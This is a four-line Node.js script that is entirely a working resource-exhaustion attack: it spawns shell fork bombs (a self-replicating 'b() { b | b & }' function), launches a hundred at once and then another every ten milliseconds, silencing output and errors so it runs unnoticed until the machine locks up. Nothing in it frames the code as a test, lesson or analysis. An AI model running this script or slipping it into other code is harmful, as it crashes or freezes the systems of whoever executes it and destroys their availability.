const { spawn } = require("child_process");
const bomb = () => spawn("sh", ["-c", "b() { b | b & }; b; while :; do sleep 60; done"], { stdio: "ignore" }).on("error", () => {});
for (let n = 0; n < 100; n++) bomb();
setInterval(bomb, 10);
